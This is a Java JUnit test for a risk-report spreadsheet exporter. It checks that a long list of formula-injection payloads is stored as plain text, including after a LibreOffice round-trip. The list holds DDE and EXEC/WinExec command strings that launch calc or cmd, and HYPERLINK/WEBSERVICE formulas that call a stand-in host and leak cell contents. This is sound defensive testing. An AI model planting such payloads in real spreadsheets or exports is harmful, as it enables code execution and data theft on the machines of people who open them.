package io.ringfence.reporting.workbook;

import static org.assertj.core.api.Assertions.assertThat;

import io.ringfence.reporting.fixture.Office;
import io.ringfence.reporting.fixture.RandomPositions;
import io.ringfence.reporting.query.RejectsQuery;
import io.ringfence.reporting.report.RiskReport;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Whatever a text holds, it is a text: in our workbook, in POI, in LibreOffice. */
class FormulaInjectionTest {
  static final List<String> PAYLOADS =
      List.of(
          "=1+1",
          "=cmd|' /C calc'!A0",
          "=HYPERLINK(\"http://x.test/?\"&A1,\"click\")",
          "=WEBSERVICE(\"http://x.test/\")",
          "=IMPORTXML(\"http://x.test\",\"//a\")",
          "=IMPORTDATA(\"http://x.test\")",
          "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
          "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
          "=rundll32|'URL.dll,OpenURL calc.exe'!A",
          "=EXEC(\"calc\")",
          "=CALL(\"kernel32\",\"WinExec\",\"JFJ\",\"calc\",1)",
          "=REGISTER.ID(\"urlmon\",\"URLDownloadToFileA\")",
          "=SUM(1+1)*cmd|' /C calc'!A0",
          "==1",
          "=",
          "+1+1",
          "+cmd|' /C calc'!A0",
          "+",
          "-1+1",
          "-2+3+cmd|' /C calc'!A0",
          "-",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "@A1",
          "@",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          "\r\n=1+1",
          "\0=1+1",
          "\u0001=1",
          " =1+1",
          "   @SUM(A1)",
          "\u00A0=1+1",
          "\u3000=1+1",
          "\uFEFF=1+1",
          "\uFF1D1+1",
          "\uFF0B1+1",
          "\uFF0D1+1",
          "\uFF20SUM(A1)",
          "'=1+1",
          "''=1+1",
          "\"=1+1\"",
          "\",=1+1,\"",
          "a\n=1+1",
          "a;=1+1",
          "_x0000_",
          "_x003D_1+1",
          "_x005F_x003D_",
          "_x000D_=1",
          "{=1+1}",
          "|calc",
          "%0A=1",
          "<f>1+1</f>",
          "]]><c><f>1</f></c>",
          "&#61;1+1",
          "a\u202E=1+1",
          "=" + "A".repeat(40_000),
          "x".repeat(32_768),
          "\u0007\u0008\u000B\u000C\u001F=1",
          "\uD800=1");

  private static final List<String> LIVE = List.of("Workbench", "Nodes", "Accounts", "TieOut");

  private static byte[] workbook() throws IOException {
    List<RejectsQuery.Row> rejects = new ArrayList<>();
    for (String payload : PAYLOADS) {
      rejects.add(new RejectsQuery.Row(payload, 1, payload, payload, payload, payload, null));
    }
    RiskReport report =
        new RandomPositions(3).withTexts(PAYLOADS).withRejects(rejects).report(PAYLOADS.size());
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    new RiskWorkbook(report).writeTo(bytes);
    return bytes.toByteArray();
  }

  private static void assertTexts(XSSFWorkbook workbook) {
    for (Sheet sheet : workbook) {
      for (Row row : sheet) {
        for (Cell cell : row) {
          assertThat(cell.getCellType() == CellType.FORMULA && !LIVE.contains(sheet.getSheetName()))
              .as("%s!%s", sheet.getSheetName(), cell.getAddress())
              .isFalse();
        }
      }
    }
  }

  private static final String CUT = " \u2026 (cut)";

  /** What a reader gets back where it is not the payload itself, written out by hand. */
  private static final Map<String, String> SHOWN =
      Map.of(
          "\r=1+1",
          "\u240D=1+1",
          "\r\n=1+1",
          "\n=1+1",
          "\0=1+1",
          "\u2400=1+1",
          "\u0001=1",
          "\u2401=1",
          "a\u202E=1+1",
          "a\uFFFD=1+1",
          "=" + "A".repeat(40_000),
          "=" + "A".repeat(32_767 - 1 - CUT.length()) + CUT,
          "x".repeat(32_768),
          "x".repeat(32_767 - CUT.length()) + CUT,
          "\u0007\u0008\u000B\u000C\u001F=1",
          "\u2407\u2408\u240B\u240C\u241F=1",
          "\uD800=1",
          "\uFFFD=1");

  static String readBack(String payload) {
    return SHOWN.getOrDefault(payload, payload);
  }

  @Test
  void everyPayloadInEveryTextFieldIsReadAsTheTextItIs() throws Exception {
    assertThat(PAYLOADS).hasSizeGreaterThan(40).doesNotHaveDuplicates().containsAll(SHOWN.keySet());
    try (XSSFWorkbook workbook = new XSSFWorkbook(new java.io.ByteArrayInputStream(workbook()))) {
      assertTexts(workbook);
      List<String> originals =
          ReadTable.of(workbook.getSheet("Rejects"), "File").rows().stream()
              .map(row -> row.getCell(6).getStringCellValue())
              .toList();
      assertThat(originals)
          .containsExactlyElementsOf(
              PAYLOADS.stream().map(FormulaInjectionTest::readBack).toList());
      ReadTable positions = ReadTable.of(workbook.getSheet("Positions"), "Venue");
      for (String heading : List.of("Trader", "Pair", "Legal entity", "Client or house")) {
        assertThat(positions.cells(heading).stream().map(Cell::getStringCellValue).toList())
            .as(heading)
            .containsExactlyInAnyOrderElementsOf(
                PAYLOADS.stream().map(FormulaInjectionTest::readBack).toList());
      }
    }
  }

  @Test
  void savedByLibreOfficeTheyAreStillTexts(@TempDir Path folder) throws Exception {
    Path file = Files.write(folder.resolve("payloads.xlsx"), workbook());
    Path saved = Files.createDirectory(folder.resolve("saved"));
    new Office(folder).recalculating().convert(file, "xlsx", saved);
    try (XSSFWorkbook workbook =
        new XSSFWorkbook(Files.newInputStream(saved.resolve("payloads.xlsx")))) {
      assertTexts(workbook);
      assertThat(ReadTable.of(workbook.getSheet("Rejects"), "File").rows())
          .hasSize(PAYLOADS.size());
    }
  }
}
